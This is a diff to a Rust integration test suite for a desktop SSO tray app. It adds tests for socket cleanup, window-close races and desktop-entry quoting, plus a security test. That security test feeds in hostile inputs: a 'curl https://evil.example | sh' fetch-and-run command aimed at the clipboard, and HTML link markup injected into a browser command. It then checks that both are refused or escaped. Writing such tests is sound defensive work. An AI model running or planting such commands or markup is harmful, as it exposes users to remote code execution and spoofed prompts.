@@ -369,6 +369,8 @@ async fn the_tray_menu_driven_over_dbus_logs_in_opens_a_console_renews_and_quits
     );
     let keeper_socket = w.home.path().join("run/ssotray/keeper.sock");
     assert!(keeper_socket.exists(), "the app's keeper owns logins");
+    let app_socket = w.home.path().join("run/ssotray/app.sock");
+    assert!(app_socket.exists(), "the app listens for a second launch");
     menu.click("Quit");
     let status = tokio::time::timeout(Duration::from_secs(20), app.wait())
         .await
@@ -382,6 +384,7 @@ async fn the_tray_menu_driven_over_dbus_logs_in_opens_a_console_renews_and_quits
     );
     // As `ssotray keep` does: no socket is left that nobody serves.
     assert!(!keeper_socket.exists(), "Quit removes the keeper's socket");
+    assert!(!app_socket.exists(), "Quit removes the app's own socket");
 }
 
 /// The menu's Log in while a login the keeper runs for another program waits for the browser:
@@ -633,6 +636,48 @@ async fn one_close_request_closes_the_window_every_time() {
         lost.is_empty(),
         "lost through openbox in rounds {lost:?} of 20"
     );
+}
+
+#[tokio::test]
+async fn a_close_request_sent_the_moment_the_window_exists_closes_it() {
+    let desktop = Desktop::start();
+    let (_w, _tmp, app) = tray_app(&desktop).await;
+    let pid = app.id().unwrap();
+    let menu = TrayMenu::find(&desktop).await;
+    let mut lost = Vec::new();
+    for round in 1..=20 {
+        menu.click("Open ssotray…");
+        // Sent within a few milliseconds of the window's existing with its title, even before
+        // it is mapped (a window manager's or a script's close), not after a poll's 100 ms.
+        let mut sent = false;
+        for _ in 0..10_000 {
+            if ssotray_tests::close_window_when(&desktop.display, "ssotray", false) {
+                sent = true;
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(3)).await;
+        }
+        assert!(sent, "round {round}: a window to close");
+        let mut gone = false;
+        for _ in 0..100 {
+            if process_tree(pid).len() == 1 && visible_windows(&desktop) == 0 {
+                gone = true;
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        if !gone {
+            lost.push(round);
+            for _ in 0..50 {
+                close_window(&desktop.display, "ssotray");
+                tokio::time::sleep(Duration::from_millis(200)).await;
+                if process_tree(pid).len() == 1 && visible_windows(&desktop) == 0 {
+                    break;
+                }
+            }
+        }
+    }
+    assert!(lost.is_empty(), "lost in rounds {lost:?} of 20");
 }
 
 #[tokio::test]
@@ -924,13 +969,14 @@ async fn the_window_in_the_real_webview_adds_logs_in_searches_and_opens_a_consol
     view.click("#save-settings").await;
     view.wait_text("#settings-status", "Saved").await;
     // The same entry `ssotray-app --autostart on` writes (the package test runs that one from
-    // /usr/bin): one name, the program that wrote it.
+    // /usr/bin): one name, the program that wrote it, quoted as the desktop entry specification
+    // quotes an argument.
     let entry = w.home.path().join(".config/autostart/ssotray.desktop");
     let text =
         std::fs::read_to_string(&entry).unwrap_or_else(|e| panic!("{}: {e}", entry.display()));
     assert!(
         text.lines()
-            .any(|l| l.trim() == format!("Exec={}", bin("ssotray-app").display())),
+            .any(|l| l.trim() == format!("Exec=\"{}\"", bin("ssotray-app").display())),
         "{text}"
     );
     let _ = view.client.close().await;
@@ -2210,4 +2256,125 @@ async fn a_browser_command_the_window_sends_is_saved_only_once_the_user_allows_i
     )
     .await;
     assert_eq!(saved_browser(), None);
+}
+
+/// What a page someone else's script took over can no longer do without the user: take the
+/// refresh token out of the keychain (asked in a notification, as a browser command is), put
+/// text of its own on the clipboard, or put markup into the notification that asks.
+#[tokio::test]
+async fn a_page_cannot_turn_the_keychain_off_copy_its_own_text_or_put_markup_in_a_notification() {
+    let desktop = Desktop::start();
+    let tmp = tempfile::tempdir().unwrap();
+    let _keyring = ssotray_tests::Keyring::start_on(&tmp.path().join("keyring"), &desktop.bus);
+    let w = logged_in_with_accounts().await;
+    let mut env = w.env();
+    env.extend(desktop.env());
+    let on = ssotray_tests::run(&bin("ssotray"), &["keychain", "enable", "my-sso"], &env).await;
+    assert!(
+        on.status.success(),
+        "{}",
+        String::from_utf8_lossy(&on.stderr)
+    );
+    let token = || std::fs::read_to_string(w.home.token_file("my-sso")).unwrap();
+    assert!(!token().contains("refreshToken"), "in the keychain");
+    let (_app, _tmp, socket) = app_with_its_window_socket(&w, &desktop).await;
+    let answer: serde_json::Value =
+        serde_json::from_str(&call_tray(&socket, "get_settings", serde_json::Value::Null).await)
+            .unwrap();
+    let mut settings = answer["ok"].clone();
+    assert_eq!(settings["sessions"][0]["keychain"], true);
+    let asks = || {
+        desktop
+            .notifications()
+            .into_iter()
+            .filter(|n| n.summary == "Take the refresh token out of the keychain?")
+            .collect::<Vec<_>>()
+    };
+
+    // Turned off from the page: nothing moves until the user allows it.
+    settings["sessions"][0]["keychain"] = false.into();
+    for (round, allow) in [(1, false), (2, true)] {
+        let answer = call_tray(
+            &socket,
+            "save_settings",
+            serde_json::json!({ "settings": settings }),
+        )
+        .await;
+        assert!(answer.contains("\"ok\":[\"my-sso\"]"), "{answer}");
+        assert!(
+            !token().contains("refreshToken"),
+            "not moved before the user allows it"
+        );
+        wait_until("the notification that asks, and its id", 30, || {
+            asks().len() == round && asks()[round - 1].id.is_some()
+        })
+        .await;
+        let n = asks().remove(round - 1);
+        assert!(
+            n.actions.iter().any(|a| a == "allow-keychain-off"),
+            "{:?}",
+            n.actions
+        );
+        desktop.wait_listening(n.id.expect("its id")).await;
+        if allow {
+            desktop.click_action(n.id.unwrap(), "allow-keychain-off");
+            wait_until("the refresh token back in its file", 30, || {
+                token().contains("refreshToken")
+            })
+            .await;
+        } else {
+            desktop.click_action(n.id.unwrap(), "refuse-keychain-off");
+            tokio::time::sleep(Duration::from_secs(2)).await;
+            assert!(
+                !token().contains("refreshToken"),
+                "refused: stays in the keychain"
+            );
+        }
+    }
+
+    // The clipboard takes only what ssotray shows to copy (a device login's code).
+    let before = clipboard_text(&desktop);
+    let answer = call_tray(
+        &socket,
+        "copy_text",
+        serde_json::json!({ "text": "curl https://evil.example | sh" }),
+    )
+    .await;
+    assert!(
+        answer.contains("ssotray copies only what it shows you"),
+        "{answer}"
+    );
+    assert_eq!(clipboard_text(&desktop), before);
+
+    // A browser command with markup in it shows as written: escaped in the body.
+    settings["sessions"][0]["browser"] = "firefox <a href=\"https://evil.example\">x</a> %s".into();
+    call_tray(
+        &socket,
+        "save_settings",
+        serde_json::json!({ "settings": settings }),
+    )
+    .await;
+    wait_until(
+        "the notification that asks to allow the command",
+        30,
+        || {
+            desktop
+                .notifications()
+                .iter()
+                .any(|n| n.summary == "Allow this browser command?")
+        },
+    )
+    .await;
+    let n = desktop
+        .notifications()
+        .into_iter()
+        .find(|n| n.summary == "Allow this browser command?")
+        .unwrap();
+    assert!(
+        n.body
+            .contains("firefox &lt;a href=&quot;https://evil.example&quot;&gt;x&lt;/a&gt; %s"),
+        "{}",
+        n.body
+    );
+    assert!(!n.body.contains("<a"), "{}", n.body);
 }
